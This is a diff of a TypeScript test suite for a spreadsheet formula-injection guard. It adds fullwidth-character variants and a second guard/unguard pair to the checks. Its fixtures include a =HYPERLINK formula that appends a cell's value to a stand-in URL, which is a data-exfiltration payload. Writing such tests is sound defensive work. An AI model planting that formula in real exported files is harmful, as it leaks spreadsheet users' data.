@@ -1,5 +1,6 @@
 import { test } from '@japa/runner'
 import { guardCell, unguardCell } from '#domain/text_guard'
+import { guard, unguard } from '#services/documents/cells'
 
 const FORMULAS = [
   '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
@@ -10,7 +11,7 @@ const FORMULAS = [
   '\r=1+1',
   '\n=1+1',
   '=1+1',
-  '\uff1d1+1',
+  ...['\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(1,1)'],
   '-6.2',
 ]
 const HARMLESS = ['SITI UJI', "'ALIM UJI", '', "'", 'A=1', '1-2', '3201014507859901']
@@ -20,6 +21,8 @@ test.group('Formula guard (S17)', () => {
     .with(FORMULAS)
     .run(({ assert }, text) => {
       assert.strictEqual(guardCell(text), `'${text}`)
+      assert.strictEqual(guard(text), `'${text}`)
+      assert.strictEqual(unguard(guard(text)), text)
       assert.strictEqual(unguardCell(guardCell(text)), text)
     })
 
